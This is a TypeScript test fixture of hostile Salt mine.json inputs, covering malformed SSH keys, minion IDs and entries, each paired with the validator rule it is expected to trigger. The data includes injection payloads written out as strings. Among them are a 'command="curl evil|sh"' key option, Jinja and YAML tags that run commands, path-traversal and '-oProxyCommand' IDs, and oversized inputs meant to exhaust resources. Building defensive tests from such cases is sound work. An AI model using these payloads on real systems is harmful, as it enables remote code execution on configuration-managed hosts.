import type { RuleName } from '../../../src/model/problem.ts';
import { ed25519Line, rsaLine, wire } from '../../model/wire-key.ts';
import type { HostileCase } from '../case.ts';

/** The host that every mine here also has, and that must compile. */
export const GOOD = 'good';

const goodEntry = { root: { 'id_ed25519.pub': `${ed25519Line(77)} root@good` } };
const key = ed25519Line(1);
const published = (text: unknown): unknown => ({ root: { 'id_ed25519.pub': text } });

function mine(hosts: Record<string, unknown>): string {
  return JSON.stringify({ ...hosts, [GOOD]: goodEntry });
}

function ofKey(name: string, text: string, ...rules: RuleName[]): HostileCase {
  const code = rules.length === 0 ? ({ code: 0 } as const) : {};
  return {
    name: `key: ${name}`,
    files: () => ({ 'mine.json': mine({ bad: published(text) }) }),
    rules,
    ...code,
  };
}

function ofId(name: string, minionId: string, ...rules: RuleName[]): HostileCase {
  const code = rules.every((rule) => rule === 'minion-id-lookalike') ? ({ code: 0 } as const) : {};
  // Not by an object's literal: __proto__ would set the prototype.
  const text = (): string =>
    `{${JSON.stringify(minionId)}: ${JSON.stringify(published(key))}, "${GOOD}": ${JSON.stringify(goodEntry)}}`;
  return { name: `minion ID: ${name}`, files: () => ({ 'mine.json': text() }), rules, ...code };
}

function ofEntry(name: string, entry: unknown, ...rules: RuleName[]): HostileCase {
  const code = rules.length === 0 ? ({ code: 0 } as const) : {};
  return { name: `entry: ${name}`, files: () => ({ 'mine.json': mine({ bad: entry }) }), rules, ...code };
}

function whole(name: string, text: () => string | Uint8Array, ...rules: RuleName[]): HostileCase {
  return { name: `mine: ${name}`, files: () => ({ 'mine.json': text() }), rules, nothingCompiles: true };
}

const nested = (levels: number): string => `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;

/** Hostile mines: anyone who is root on a minion writes its entry. */
export const MINES: readonly HostileCase[] = [
  ofKey('a line end and a state', `${key} x\nroot-shell:\n  cmd.run:\n    - name: id`, 'key-malformed'),
  ofKey('a line end and a second key', `${key}\n${ed25519Line(2)}`, 'key-malformed'),
  ofKey('a carriage return', `${key}\rssh-rsa`, 'key-malformed'),
  ofKey('NEL', `${key} \u0085x`, 'key-malformed'),
  ofKey('line and paragraph separators', `${key} \u2028\u2029`, 'key-malformed'),
  ofKey('NUL', `${key} \u0000`, 'key-malformed'),
  ofKey('terminal escapes in the type', `\u001b]0;owned\u0007\u009b2J${key}`, 'key-malformed'),
  ofKey('command=', `command="curl evil|sh" ${key}`, 'key-malformed'),
  ofKey('environment=', `environment="LD_PRELOAD=/x" ${key}`, 'key-malformed'),
  ofKey('restrict of its own', `restrict,pty ${key}`, 'key-malformed'),
  ofKey('cert-authority', `cert-authority ${key}`, 'key-malformed'),
  ofKey('Jinja in the comment', `${key} {{ salt['cmd.run']('id') }}{% for x in y %}`),
  ofKey('Jinja in the place of the key', "{{ salt['cmd.run']('id') }}", 'key-malformed'),
  ofKey('a YAML anchor', `&anchor ${key}`, 'key-malformed'),
  ofKey('a YAML alias', '*anchor', 'key-malformed'),
  ofKey('a YAML tag', `!!python/object/apply:os.system ["id"]`, 'key-malformed'),
  ofKey('a YAML comment in the comment', `${key} # '"- : \\`),
  ofKey('half a UTF-16 pair in the comment', `${key} \ud800`),
  ofKey('half a UTF-16 pair in the type', `\udfff${key}`, 'key-malformed'),
  ofKey('bidi marks in the comment', `${key} \u202e\u2066`),
  ofKey(
    'a private key',
    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blb\n-----END OPENSSH PRIVATE KEY-----',
    'key-private',
  ),
  ofKey(
    'a private key far behind a public one',
    `${key} ${' '.repeat(20_000)}BEGIN RSA PRIVATE KEY`,
    'key-private',
  ),
  ofKey(
    'a certificate',
    `ssh-rsa-cert-v01@openssh.com ${wire('ssh-rsa-cert-v01@openssh.com', 'x')}`,
    'key-type',
  ),
  ofKey('a comment of 1 MiB', `${key} ${'x'.repeat(2 ** 20)}`, 'key-malformed'),
  ofKey('base64 with garbage', `${key.slice(0, -4)}!!!!`, 'key-malformed'),
  ofKey('base64 cut short', key.slice(0, -3), 'key-malformed'),
  ofKey('base64 padded in the middle', key.replace('AAAA', 'AA=='), 'key-malformed'),
  ofKey('RSA of 1,024 bits', rsaLine(1024), 'key-weak'),
  ofKey('RSA of 2,047 bits', rsaLine(2047), 'key-weak'),
  ofKey('RSA of a million bits', rsaLine(1_000_000), 'key-malformed'),
  ofKey('RSA of exponent 1', rsaLine(4096, Buffer.from([1])), 'key-malformed'),
  ofKey('DSA', `ssh-dss ${wire('ssh-dss', Buffer.alloc(128, 3))}`, 'key-type'),
  ofKey('an unknown type', `ssh-quantum ${wire('ssh-quantum', 'x')}`, 'key-type'),
  ofKey('a type that is a word of JavaScript', `constructor ${wire('constructor', 'x')}`, 'key-malformed'),
  ofKey('a type unlike the data', `ssh-rsa ${wire('ssh-ed25519', Buffer.alloc(32))}`, 'key-malformed'),
  ofKey(
    'a length of 4 GiB inside',
    `ssh-ed25519 ${Buffer.from('ffffffff00', 'hex').toString('base64')}`,
    'key-malformed',
  ),
  ofKey('ten thousand empty fields', `ssh-ed25519 ${Buffer.alloc(8000).toString('base64')}`, 'key-malformed'),
  ofKey('an empty text', '', 'key-malformed'),
  ofKey('the good host’s key', `${ed25519Line(2)} one`),
  {
    name: 'key: one under two IDs',
    files: () => ({ 'mine.json': mine({ bad: published(key), clone: published(`${key} other comment`) }) }),
    rules: ['key-duplicate'],
  },
  ofId('a slash', '../../etc/cron.d/evil', 'minion-id'),
  ofId('two dots', '..', 'minion-id'),
  ofId('NUL', 'web\u0000', 'minion-id'),
  ofId('a line end', 'web1\nevil:\n  cmd.run: []', 'minion-id'),
  ofId('a leading dash', '-oProxyCommand=id', 'minion-id'),
  ofId('a glob', '*', 'minion-id'),
  ofId('Jinja', "{{ salt['cmd.run']('id') }}", 'minion-id'),
  ofId('a quote', "web1' cmd.run id '", 'minion-id'),
  ofId('a colon and a blank', 'a: b', 'minion-id'),
  ofId('300 characters', 'a'.repeat(300), 'minion-id'),
  ofId('a megabyte', 'a'.repeat(2 ** 20), 'minion-id'),
  ofId('half a UTF-16 pair', '\ud800', 'minion-id'),
  ofId('an empty one', '', 'minion-id'),
  ofId('terminal escapes', '\u001b[31m\u009b2J\u202e', 'minion-id'),
  ofId('a zero-width joiner', 'go\u200dod', 'minion-id'),
  ofId('__proto__', '__proto__', 'minion-id'),
  ofId('constructor', 'constructor'),
  ofId('root', 'root'),
  ofId('a number that YAML 1.1 reads by sixties', '12_30'),
  ofId('a word that YAML 1.1 takes for true', 'yes'),
  ofId('a word that YAML takes for nothing', 'null'),
  ofId('a number with an exponent', '1e3'),
  ofId('a lookalike of the good host', 'gооd', 'minion-id-lookalike'),
  ofId('the good host in wide letters', 'ｇｏｏｄ', 'minion-id-lookalike'),
  ofId('the good host in capitals', 'GOOD', 'minion-id-lookalike'),
  ofEntry('a number', 1e308, 'mine-shape'),
  ofEntry('a list of keys', [key], 'mine-shape'),
  ofEntry('text in the place of files', { root: key }, 'mine-shape'),
  ofEntry('a list in the place of a key', published([key]), 'mine-shape'),
  ofEntry('an object in the place of a key', published({ toString: 'x' }), 'mine-shape'),
  ofEntry('an error in words, with escapes', '\u001b[2JTraceback (most recent call last)'),
  ofEntry('null', null),
  ofEntry('a user with escapes in the name', { '\u001b[2J': { x: 'y' } }),
  ofEntry(
    'a hundred thousand users',
    Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`u${i}`, { k: 'x' }])),
    'mine-shape',
  ),
  ofEntry('another host’s entry inside', { good: published(key) }, 'mine-shape'),
  {
    name: 'entry: 100,000 levels',
    files: () => ({ 'mine.json': `{"bad": ${nested(100_000)}, "${GOOD}": ${JSON.stringify(goodEntry)}}` }),
    rules: ['mine-shape'],
  },
  {
    name: 'entry: __proto__ with a key below',
    files: () => ({
      'mine.json': `{"bad": {"__proto__": {"id_ed25519.pub": "x"}}, "${GOOD}": ${JSON.stringify(goodEntry)}}`,
    }),
    rules: [],
    code: 0,
  },
  whole('empty', () => '', 'mine-syntax'),
  whole('blanks', () => ' \n\t', 'mine-syntax'),
  whole('a list', () => '[]', 'mine-shape'),
  whole('a number too large', () => '1e999999', 'mine-shape'),
  whole('NaN', () => 'NaN', 'mine-syntax'),
  whole('cut short', () => mine({}).slice(0, -5), 'mine-syntax'),
  whole('100,000 open brackets', () => '['.repeat(100_000), 'mine-syntax'),
  whole('half a million line ends behind a bracket', () => `[}${'\n'.repeat(500_000)}x`, 'mine-syntax'),
  whole('salt’s own error', () => 'Traceback (most recent call last):\n\u001b[0m', 'mine-syntax'),
  whole('bytes that are no UTF-8', () => Buffer.from([0x7b, 0xff, 0x7d]), 'input-missing'),
  whole('UTF-16', () => Buffer.from(`\ufeff${mine({})}`, 'utf16le'), 'input-missing'),
  whole('5 million open brackets', () => '['.repeat(5_000_000), 'mine-syntax'),
  whole('130 MiB', () => Buffer.alloc(130 * 2 ** 20, 0x20), 'input-too-large'),
  {
    name: 'mine: a byte order mark',
    files: () => ({ 'mine.json': `\ufeff${mine({})}` }),
    rules: [],
    code: 0,
  },
  {
    name: 'mine: line ends of Windows',
    files: () => ({ 'mine.json': mine({}).replaceAll(',', ',\r\n') }),
    rules: [],
    code: 0,
  },
  {
    name: 'mine: 50 MB of one host’s text',
    files: () => ({ 'mine.json': mine({ bad: published(`${key} ${'x'.repeat(50_000_000)}`) }) }),
    rules: ['key-malformed'],
  },
  {
    name: 'mine: a host twice, of which JSON.parse would take the last',
    files: () => ({ 'mine.json': `{"bad": 7, "bad": {}, "${GOOD}": ${JSON.stringify(goodEntry)}}` }),
    rules: ['mine-shape'],
    nothingCompiles: true,
  },
];
